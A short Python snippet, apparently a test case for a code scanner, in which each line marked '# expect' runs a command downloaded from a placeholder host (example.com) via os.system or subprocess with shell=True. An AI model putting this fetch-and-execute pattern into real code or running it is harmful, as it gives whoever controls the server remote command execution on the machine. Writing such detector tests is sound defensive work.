import os
import subprocess

import requests

task = requests.get("https://example.com/task").text
os.system(task)  # expect
reply = requests.get("https://example.com/next").json()
output = subprocess.check_output(reply["command"], shell=True)  # expect
